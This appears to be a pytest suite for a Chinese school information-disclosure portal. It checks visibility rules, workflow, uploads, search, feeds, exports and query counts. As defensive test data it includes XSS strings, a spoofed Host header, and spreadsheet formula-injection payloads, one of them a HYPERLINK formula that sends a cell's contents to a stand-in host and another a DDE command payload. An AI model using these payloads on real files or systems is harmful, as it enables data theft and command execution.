"""Disclosure over HTTP: pages and fragments, audience filtering everywhere a notice can
surface, attachments, search, feeds, exports, bad input and query counts."""
from __future__ import annotations

import io
import re
from contextlib import contextmanager
from datetime import timedelta

import feedparser
import pytest
from openpyxl import load_workbook
from sqlalchemy import event, func, select

from portal import markup
from portal.auth.models import User
from portal.disclosure import rules
from portal.disclosure.models import Attachment, Notice, Objection
from portal.extensions import db
from portal.timeutil import utcnow
from tests.conftest import ON_POSTGRES, login_as, writer_can_start
from tests.disclosure.factories import catalog, draft, published, user

PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
SENTINEL = "DRAFTSENTINEL7F3A"
STAFF_ONLY = "STAFFONLYSENTINEL"


@pytest.fixture
def school(app, people):
    """A few notices in every state and audience, with sentinels where readers must not look."""
    with app.app_context():
        s = db.session
        ids = {
            "public": published(s, title="2026年度奖励性绩效工资分配方案公示", body="绩效工资向一线倾斜",
                                audience="public", gongshi=5).id,
            "staff": published(s, title=f"校内通知 {STAFF_ONLY}", body=STAFF_ONLY, audience="staff", ack=True).id,
            "party": published(s, title="党内通报 PARTYSENTINEL", audience="party").id,
            "draft": draft(s, title=f"草稿 {SENTINEL}", body=SENTINEL, audience="public").id,
        }
        submitted = draft(s, title=f"待审 {SENTINEL}", body=SENTINEL, audience="public")
        rules.submit(s, user(s, "leader"), submitted)
        ids["submitted"] = submitted.id
        withdrawn = published(s, title="撤回的公告", body=f"撤回正文 {SENTINEL}", audience="public")
        rules.withdraw(s, user(s, "principal"), withdrawn, "内容有误")
        ids["withdrawn"] = withdrawn.id
        s.commit()
        return ids


def _attach(app, notice_id: int, name: str = "附件.pdf", data: bytes = PDF) -> int:
    from portal.files import store

    with app.app_context():
        notice = db.session.get(Notice, notice_id)
        status, notice.status = notice.status, "draft"
        att = rules.attach(db.session, user(db.session, "leader"), notice, store(app.config["UPLOAD_DIR"], name, data))
        notice.status = status
        db.session.commit()
        return att.id


# --- pages and fragments ----------------------------------------------------------------------

@pytest.mark.parametrize("url,block", [
    ("/notices/school", '<div id="notice_list">'),
    ("/notices/party", '<div id="notice_list">'),
    ("/notices/search?q=绩效工资", '<div id="search_results"'),
])
def test_lists_as_page_and_fragment(client, school, url, block):
    page = client.get(url)
    assert page.status_code == 200 and "<html" in page.get_data(as_text=True)
    part = client.hx(url)
    html = part.get_data(as_text=True)
    assert html.lstrip().startswith(block) and "<html" not in html and "HX-Request" in part.headers["Vary"]


def test_notice_page_fragments_for_objection_and_ack(app, client, school):
    login_as(client, app, "rep")
    r = client.hx(f"/notices/{school['public']}/objections", method="POST", data={"body": "我有意见", "anonymous": "y"})
    html = r.get_data(as_text=True)
    assert html.lstrip().startswith('<section id="objections"') and "我有意见" in html and "匿名" in html
    r = client.hx(f"/notices/{school['staff']}/ack", method="POST")
    assert r.get_data(as_text=True).lstrip().startswith('<div id="ack">') and "您已确认阅读" in r.get_data(as_text=True)


def test_htmx_objection_with_empty_text_rerenders_the_form_with_the_error(app, client, school):
    login_as(client, app, "rep")
    r = client.hx(f"/notices/{school['public']}/objections", method="POST", data={"body": ""})
    assert r.status_code == 200 and "请填写异议内容。" in r.get_data(as_text=True)


def test_only_notices_with_gongshi_have_an_objections_box_and_times_are_valid_html(app, client, school):
    """No empty box labelled by a heading that is not there (issue 7 item 13); ``<time datetime>``
    with one to three fraction digits at most (HTML), here whole seconds."""
    login_as(client, app, "rep")
    plain = client.get(f"/notices/{school['staff']}").get_data(as_text=True)
    assert 'id="objections"' not in plain and "obj-h" not in plain
    gongshi = client.get(f"/notices/{school['public']}").get_data(as_text=True)
    assert '<section id="objections" class="card" aria-labelledby="obj-h">' in gongshi and 'id="obj-h"' in gongshi
    stamps = re.findall(r'datetime="([^"]*)"', gongshi + client.get("/notices/school").get_data(as_text=True))
    assert len(stamps) >= 4 and all(re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", t) for t in stamps), stamps


# --- audience and draft leakage -----------------------------------------------------------------

def _crawl(client, school, extra=()):
    urls = ["/", "/notices/school", "/notices/party", "/notices/school?status=withdrawn",
            f"/notices/search?q={SENTINEL[2:-2]}", f"/notices/search?q={STAFF_ONLY[2:-2]}", "/notices/search?q=草稿",
            "/feeds/school.atom", "/feeds/party.atom", *extra]
    urls += [f"/notices/{school[k]}" for k in school] + [f"/notices/{school[k]}/qr.png" for k in school]
    out = {}
    for url in urls:
        for hx in (False, True):
            r = client.hx(url) if hx else client.get(url)
            out[(url, hx)] = r
    return out


@pytest.mark.parametrize("who", [None, "staff", "rep", "secretary", "admin"])
def test_draft_sentinel_never_leaks(app, client, school, who):
    if who:
        login_as(client, app, who)
    hits = [key for key, r in _crawl(client, school).items() if SENTINEL.encode() in r.data]
    assert hits == []


def test_staff_only_notices_are_hidden_from_anonymous_everywhere(app, client, school):
    att = _attach(app, school["staff"])
    hits = [k for k, r in _crawl(client, school, [f"/attachments/{att}"]).items()
            if STAFF_ONLY.encode() in r.data or b"PARTYSENTINEL" in r.data]
    assert hits == []
    assert client.get(f"/attachments/{att}").status_code == 302  # to the login page
    assert client.get(f"/notices/{school['staff']}").headers["Location"].startswith("/login")


def test_party_notices_only_for_party_members(app, client, school):
    login_as(client, app, "staff")
    assert b"PARTYSENTINEL" not in client.get("/notices/school").data
    assert client.get(f"/notices/{school['party']}").status_code == 403
    with app.app_context():
        user(db.session, "rep").is_party_member = True
        db.session.commit()
    login_as(client, app, "rep")
    assert b"PARTYSENTINEL" in client.get("/notices/school").data


def test_withdrawn_notice_shows_its_record_not_its_text(app, client, school):
    html = client.get(f"/notices/{school['withdrawn']}").get_data(as_text=True)
    assert "撤回原因：" in html and "内容有误" in html and "撤回正文" not in html
    login_as(client, app, "principal")
    assert "撤回正文" in client.get(f"/notices/{school['withdrawn']}").get_data(as_text=True)


def test_drafts_are_visible_to_author_and_approver_only(app, client, school):
    for who, status in (("leader", 200), ("principal", 200), ("secretary", 403), ("staff", 403), ("admin", 403)):
        login_as(client, app, who)
        assert client.get(f"/notices/{school['draft']}").status_code == status, who


# --- workflow over HTTP -------------------------------------------------------------------------

def test_create_submit_approve_over_http_ignores_extra_fields(app, client, people):
    with app.app_context():
        item_id = catalog(db.session).id
        db.session.commit()
    login_as(client, app, "leader")
    r = client.post("/notices/new", data={
        "catalog_item_id": item_id, "audience": "staff", "title": "新公告", "body_md": "正文", "gongshi_days": "0",
        "status": "published", "author_id": "1", "published_at": "2020-01-01", "approver_id": "1", "version": "9",
    })
    assert r.status_code == 303
    with app.app_context():
        n = db.session.scalar(select(Notice).where(Notice.title == "新公告"))
        assert (n.status, n.published_at, n.approver_id, n.version) == ("draft", None, None, 1)
        assert n.author_id == user(db.session, "leader").id
        notice_id = n.id
    client.post(f"/notices/{notice_id}/submit")
    login_as(client, app, "principal")
    client.post(f"/notices/{notice_id}/publish")
    with app.app_context():
        assert db.session.get(Notice, notice_id).status == "published"


@pytest.mark.parametrize("data,message", [
    ({"title": ""}, "请填写标题。"),
    ({"title": "长" * 200}, "标题不能超过 120 个字。"),
    ({"gongshi_days": "99"}, "公示期应在 0 到 30 个工作日之间。"),
    ({"catalog_item_id": "0"}, "请选择公开目录。"),
])
def test_bad_notice_input_is_explained_and_saves_nothing(app, client, people, data, message):
    with app.app_context():
        item_id = catalog(db.session).id
        db.session.commit()
    login_as(client, app, "leader")
    form = {"catalog_item_id": item_id, "audience": "staff", "title": "标题", "body_md": "x", "gongshi_days": "0", **data}
    r = client.post("/notices/new", data=form)
    assert r.status_code == 200 and message in r.get_data(as_text=True)
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Notice)) == 0


def test_markdown_with_script_is_stored_sanitised(app, client, people):
    with app.app_context():
        item_id = catalog(db.session).id
        db.session.commit()
    login_as(client, app, "leader")
    client.post("/notices/new", data={"catalog_item_id": item_id, "audience": "staff", "title": "x",
                                      "body_md": '<script>alert(1)</script><b hx-get="/x">粗</b>', "gongshi_days": "0"})
    with app.app_context():
        n = db.session.scalar(select(Notice))
        assert "<script" not in n.body_html and "hx-get" not in n.body_html
    html = client.get(f"/notices/{n.id}").get_data(as_text=True)
    assert "<script>alert" not in html and 'hx-get="/x"' not in html


def test_approval_by_the_wrong_role_changes_nothing(app, client, school):
    login_as(client, app, "secretary")
    r = client.post(f"/notices/{school['submitted']}/publish")
    assert r.status_code == 403
    with app.app_context():
        assert db.session.get(Notice, school["submitted"]).status == "submitted"


def test_editing_a_published_notice_is_refused_with_a_chinese_message(app, client, school):
    login_as(client, app, "leader")
    r = client.post(f"/notices/{school['public']}/edit", data={"title": "改了"}, follow_redirects=True)
    assert "请使用“更正”" in r.get_data(as_text=True)
    with app.app_context():
        assert db.session.get(Notice, school["public"]).title.startswith("2026年度")


def test_objection_after_the_window_is_refused(app, client, school):
    with app.app_context():
        n = db.session.get(Notice, school["public"])
        n.gongshi_end = utcnow() - timedelta(seconds=1)
        db.session.commit()
    login_as(client, app, "rep")
    r = client.post(f"/notices/{school['public']}/objections", data={"body": "晚了"})
    assert "公示期满" in r.get_data(as_text=True)
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Objection)) == 0


def test_publisher_answers_and_anonymity_is_explained(app, client, school):
    login_as(client, app, "rep")
    client.post(f"/notices/{school['public']}/objections", data={"body": "请公布测算表", "anonymous": "y"})
    with app.app_context():
        oid = db.session.scalar(select(Objection.id))
    html = client.get(f"/notices/{school['public']}").get_data(as_text=True)
    assert "审批人（党务公开为党组织书记，校务公开为校长）可以看到您的姓名" in html
    login_as(client, app, "staff")
    assert client.post(f"/objections/{oid}/answer", data={f"a{oid}-answer": "x"}).status_code == 403
    login_as(client, app, "leader")
    html = client.post(f"/objections/{oid}/answer", data={f"a{oid}-answer": "将在修订稿中公布"}).get_data(as_text=True)
    assert "将在修订稿中公布" in html and "提出人：rep" not in html
    login_as(client, app, "principal")
    assert "匿名（提出人：rep，仅审批人可见）" in client.get(f"/notices/{school['public']}").get_data(as_text=True)


def test_ack_report_and_export(app, client, school):
    login_as(client, app, "staff")
    client.post(f"/notices/{school['staff']}/ack")
    login_as(client, app, "leader")
    html = client.get(f"/notices/{school['staff']}/acks").get_data(as_text=True)
    assert "已确认 1 人，未确认 9 人。" in html
    r = client.get(f"/notices/{school['staff']}/acks.xlsx")
    ws = load_workbook(io.BytesIO(r.data)).active
    values = [row[3] for row in ws.iter_rows(min_row=3, values_only=True)]
    assert values.count("已确认") == 1 and values.count("未确认") == 9


# --- attachments ---------------------------------------------------------------------------------

@pytest.mark.parametrize("name,data,message", [
    ("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "不接受 SVG"),
    ("a.html", b"<html><script>alert(1)</script></html>", "不接受 SVG、HTML"),
    ("a.pdf", b"MZ\x90\x00 not a pdf", "不支持该文件类型"),
    ("a.docx", PDF, "与扩展名"),
    ("a.pdf", b"", "上传的文件是空的"),
    ("a.pdf", PDF + b"0" * (10 * 1024 * 1024), "不能超过 10 MB"),
])
def test_bad_uploads_are_refused_in_chinese(app, client, people, name, data, message):
    with app.app_context():
        notice_id = draft(db.session).id
        db.session.commit()
    login_as(client, app, "leader")
    r = client.post(f"/notices/{notice_id}/attachments", data={"file": (io.BytesIO(data), name)},
                    content_type="multipart/form-data", follow_redirects=True)
    assert message in r.get_data(as_text=True)
    with app.app_context():
        assert db.session.scalar(select(func.count()).select_from(Attachment)) == 0


def test_download_is_an_attachment_with_its_chinese_name(app, client, school):
    att = _attach(app, school["public"], "2026年度预算明细表.pdf")
    r = client.get(f"/attachments/{att}")
    assert r.status_code == 200 and r.data == PDF
    assert r.headers["Content-Disposition"].startswith("attachment;")
    assert "filename*=UTF-8''2026%E5%B9%B4" in r.headers["Content-Disposition"]
    assert r.headers["X-Content-Type-Options"] == "nosniff"


def test_download_link_replayed_after_logout_is_refused(app, client, school):
    att = _attach(app, school["staff"])
    login_as(client, app, "staff")
    assert client.get(f"/attachments/{att}").status_code == 200
    client.post("/logout")
    assert client.get(f"/attachments/{att}").status_code == 302


# --- search, feeds, exports -------------------------------------------------------------------------

@pytest.mark.parametrize("q,found", [("绩效工资", True), ("奖励性绩效", True), ("绩效", True), ("工资 分配", True),
                                     ("不存在的词", False), ('"引号"', False), ("%", False)])
def test_chinese_search(client, school, q, found):
    html = client.get("/notices/search", query_string={"q": q}).get_data(as_text=True)
    assert ("2026年度奖励性绩效工资分配方案公示" in html) is found, q


def test_feeds_parse_and_carry_public_notices_only(client, school):
    for channel in ("school", "party"):
        r = client.get(f"/feeds/{channel}.atom")
        feed = feedparser.parse(r.data)
        assert r.mimetype == "application/atom+xml" and not feed.bozo, feed.get("bozo_exception")
        titles = [e.title for e in feed.entries]
        if channel == "school":
            assert titles == ["2026年度奖励性绩效工资分配方案公示"]
            assert feed.entries[0].link.endswith(f"/notices/{school['public']}")
        else:
            assert titles == []


def test_register_export(app, client, school):
    login_as(client, app, "principal")
    today = utcnow().date()
    r = client.get("/disclosure/register.xlsx", query_string={"start": str(today - timedelta(days=1)), "end": str(today + timedelta(days=1))})
    ws = load_workbook(io.BytesIO(r.data)).active
    titles = [row[3] for row in ws.iter_rows(min_row=2, values_only=True)]
    assert len(titles) == 4 and "撤回的公告" in titles
    r = client.get("/disclosure/register.xlsx", query_string={"start": "2026-12-01", "end": "2026-01-01"})
    assert r.status_code == 400 and "截止日期不能早于起始日期。" in r.get_data(as_text=True)


def test_compliance_shows_overdue_items(app, client, people):
    with app.app_context():
        item = catalog(db.session, name="决议执行情况", cadence="monthly", gongshi=0)
        item.created_at = utcnow() - timedelta(days=100)
        db.session.commit()
    login_as(client, app, "secretary")
    html = client.get("/disclosure/compliance").get_data(as_text=True)
    assert "有 1 个目录项逾期未公开。" in html
    assert "1 个公开目录项逾期未公开" in client.get("/todos").get_data(as_text=True)  # the dashboard's to-do fragment


def test_catalogue_item_admin(app, client, people):
    login_as(client, app, "admin")
    r = client.post("/disclosure/catalogue/new", data={"channel": "party", "name": "党费", "cadence": "term",
                                                       "default_audience": "party", "default_gongshi_days": "0", "active": "y"})
    assert r.status_code == 303
    r = client.post("/disclosure/catalogue/new", data={"channel": "party", "name": "党费", "cadence": "term",
                                                       "default_audience": "party"})
    assert "已有同名目录项" in r.get_data(as_text=True)


# --- query counts -----------------------------------------------------------------------------------

@contextmanager
def counting(app):
    statements: list[str] = []

    def before(conn, cursor, statement, *args):
        statements.append(statement)

    with app.app_context():
        engine = db.engine
    event.listen(engine, "before_cursor_execute", before)
    try:
        yield statements
    finally:
        event.remove(engine, "before_cursor_execute", before)


def _bulk(app, n: int) -> int:
    with app.app_context():
        s = db.session
        item = catalog(s, name="批量", gongshi=5)
        author, approver = user(s, "leader"), user(s, "principal")
        now = utcnow()
        for i in range(n):
            notice = Notice(channel="school", catalog_item_id=item.id, audience="staff", title=f"公告 {i} 绩效工资",
                            body_md="正文", body_html="<p>正文</p>", status="published", author_id=author.id,
                            approver_id=approver.id, published_at=now - timedelta(minutes=i), gongshi_days=5,
                            gongshi_start=now, gongshi_end=now + timedelta(days=5))
            s.add(notice)
        s.flush()
        s.execute(Notice.__table__.update().values(series_id=Notice.id))
        first = s.scalar(select(Notice.id).order_by(Notice.id))
        for k in range(3):
            rules.lodge_objection(s, user(s, "rep"), s.get(Notice, first), f"异议{k}", k == 1)
        s.commit()
        return first


@pytest.mark.parametrize("path", ["/notices/school", "/notices/NOTICE", "/notices/search?q=绩效工资", "/"])
def test_query_counts_do_not_grow(app, client, people, path):
    first = _bulk(app, 10)
    login_as(client, app, "staff")
    url = path.replace("NOTICE", str(first))
    client.get(url)  # warm caches
    with counting(app) as small:
        assert client.get(url).status_code == 200
    _bulk(app, 990)
    with counting(app) as large:
        assert client.get(url).status_code == 200
    print(f"queries {path}: {len(small)} at 10 notices, {len(large)} at 1000")
    assert len(small) == len(large) <= 8, "\n".join(s[:90] for s in large)


def test_live_preview_is_sanitised(app, client, people):
    login_as(client, app, "leader")
    r = client.hx("/notices/preview", method="POST", data={"body_md": "# 标题\n\n<script>alert(1)</script>**粗**"})
    html = r.get_data(as_text=True)
    assert html.startswith('<div id="preview"') and "<strong>粗</strong>" in html and "<script" not in html
    login_as(client, app, "staff")
    assert client.hx("/notices/preview", method="POST", data={"body_md": "x"}).status_code == 403


@pytest.mark.parametrize("query", ["start=0001-01-01&end=2026-12-31", "start=2026-01-01&end=9999-12-31"])
def test_register_export_with_dates_out_of_range_explains(app, client, people, query):
    login_as(client, app, "admin")
    r = client.get(f"/disclosure/register.xlsx?{query}")
    assert r.status_code == 400 and "日期超出范围" in r.get_data(as_text=True)


# --- exports carry no formulas ---------------------------------------------------------------

HOSTILE_TITLE = '=HYPERLINK("http://e.x/?t="&D3,"打开")'
HOSTILE_REASON = "=1+1+cmd|' /C calc'!A0"


def _cells(data: bytes) -> list:
    return [cell for row in load_workbook(io.BytesIO(data)).active.iter_rows() for cell in row]


def test_exports_write_formula_like_text_as_text(app, client, people):
    from tests.conftest import make_user

    with app.app_context():
        s = db.session
        make_user("hostile", name="@SUM(1+1)*cmd|' /C calc'!A0", staff_no="+86-1")
        make_user("tabbed", name="\t=1+1", staff_no="-1")
        notice = published(s, title=HOSTILE_TITLE, audience="staff", ack=True)
        withdrawn = published(s, title="-2+3 撤回", audience="staff")
        rules.withdraw(s, user(s, "principal"), withdrawn, HOSTILE_REASON)
        s.commit()
        notice_id = notice.id
    login_as(client, app, "principal")
    today = utcnow().date()
    register = client.get("/disclosure/register.xlsx", query_string={"start": str(today - timedelta(days=1)),
                                                                     "end": str(today + timedelta(days=1))})
    login_as(client, app, "leader")
    acks = client.get(f"/notices/{notice_id}/acks.xlsx")
    for name, response, expected in (
        ("register.xlsx", register, {HOSTILE_TITLE, HOSTILE_REASON, "-2+3 撤回"}),
        ("acks.xlsx", acks, {HOSTILE_TITLE, "@SUM(1+1)*cmd|' /C calc'!A0", "+86-1", "\t=1+1", "-1"}),
    ):
        cells = _cells(response.data)
        formulas = [c.coordinate for c in cells if c.data_type == "f"]
        assert formulas == [], name
        assert expected <= {c.value for c in cells}, name


# --- rendering never holds the write lock ------------------------------------------------------

def test_markdown_is_rendered_while_other_writers_can_write(app, client, people, monkeypatch):
    real = markup.render_markdown
    seen: list[bool] = []

    def probing(text: str) -> str:
        seen.append(writer_can_start(app))
        return real(text)

    monkeypatch.setattr(markup, "render_markdown", probing)
    with app.app_context():
        item_id = catalog(db.session).id
        db.session.commit()
    login_as(client, app, "leader")
    form = {"catalog_item_id": item_id, "audience": "staff", "title": "渲染", "body_md": "[" * 500, "gongshi_days": "0"}
    assert client.post("/notices/new", data=form).status_code == 303
    with app.app_context():
        notice_id = db.session.scalar(select(Notice.id))
    assert client.post(f"/notices/{notice_id}/edit", data={**form, "body_md": "**改**"}).status_code == 303
    assert client.post("/notices/preview", data={"body_md": "[" * 500}).status_code == 200
    assert seen == [True, True, True]
    with app.app_context():
        assert db.session.get(Notice, notice_id).body_html == "<p><strong>改</strong></p>\n"


# --- every route that names a notice applies the notice's own visibility ----------------------

def test_admin_outside_the_party_sees_no_party_or_draft_notice_through_reports(app, client, school):
    login_as(client, app, "admin")  # not a Party member, and none of these is hers
    with app.app_context():
        assert not db.session.get(User, user(db.session, "admin").id).is_party_member
    for key in ("party", "draft", "submitted"):
        for suffix in ("acks", "acks.xlsx"):
            r = client.get(f"/notices/{school[key]}/{suffix}")
            assert r.status_code in (403, 404), (key, suffix)
            assert "PARTYSENTINEL" not in r.get_data(as_text=True) and SENTINEL not in r.get_data(as_text=True)
    assert client.get(f"/notices/{school['staff']}/acks").status_code == 200  # what she may read, she may report on
    today = utcnow().date()
    r = client.get("/disclosure/register.xlsx", query_string={"start": str(today - timedelta(days=1)),
                                                              "end": str(today + timedelta(days=1))})
    titles = [row[3] for row in load_workbook(io.BytesIO(r.data)).active.iter_rows(min_row=2, values_only=True)]
    assert titles and not any("PARTYSENTINEL" in t for t in titles)


def test_audit_summaries_do_not_carry_draft_or_party_titles(app, client, school):
    login_as(client, app, "supervisor")
    with app.app_context():
        rules.update_draft(db.session, user(db.session, "leader"), db.session.get(Notice, school["draft"]),
                           item=catalog(db.session), audience="public", title=f"改过 {SENTINEL}", body_md="x",
                           requires_ack=False, gongshi_days=0)
        db.session.commit()
    html = "".join(client.get(f"/audit/?page={p}").get_data(as_text=True) for p in (1, 2, 3))
    assert "notice.drafted" in html and SENTINEL not in html and "PARTYSENTINEL" not in html


def test_a_given_answer_cannot_be_overwritten_over_http(app, client, school):
    with app.app_context():
        notice = db.session.get(Notice, school["public"])
        oid = rules.lodge_objection(db.session, user(db.session, "rep"), notice, "异议", False).id
        db.session.commit()
    login_as(client, app, "leader")
    client.hx(f"/objections/{oid}/answer", method="POST", data={f"a{oid}-answer": "原答复"})
    html = client.hx(f"/objections/{oid}/answer", method="POST", data={f"a{oid}-answer": "篡改"}).get_data(as_text=True)
    assert "答复不能修改" in html and "篡改" not in html
    html = client.hx(f"/objections/{oid}/clarify", method="POST", data={f"c{oid}-answer": "补充说明一"}).get_data(as_text=True)
    assert "原答复" in html and "补充说明一" in html
    with app.app_context():
        assert db.session.get(Objection, oid).answer == "原答复"
    login_as(client, app, "staff")
    assert client.hx(f"/objections/{oid}/clarify", method="POST", data={f"c{oid}-answer": "x"}).status_code in (403, 404)


# --- absolute URLs come from PUBLIC_URL, never from the Host header ---------------------------

def test_feeds_and_qr_codes_ignore_the_host_header(app, client, school, monkeypatch):
    app.config["PUBLIC_URL"] = "https://portal.school.example"
    evil = {"Host": "evil.example"}
    for channel in ("school", "party"):
        body = client.get(f"/feeds/{channel}.atom", headers=evil).get_data(as_text=True)
        assert "evil.example" not in body and "https://portal.school.example/feeds/" in body
    feed = feedparser.parse(client.get("/feeds/school.atom", headers=evil).data)
    assert feed.entries[0].link == f"https://portal.school.example/notices/{school['public']}"
    from portal.disclosure.views import reading

    encoded: list[str] = []
    real = reading.segno.make
    monkeypatch.setattr(reading.segno, "make", lambda content, **kw: encoded.append(content) or real(content, **kw))
    r = client.get(f"/notices/{school['public']}/qr.png", headers=evil)
    assert r.status_code == 200 and encoded == [f"https://portal.school.example/notices/{school['public']}"]
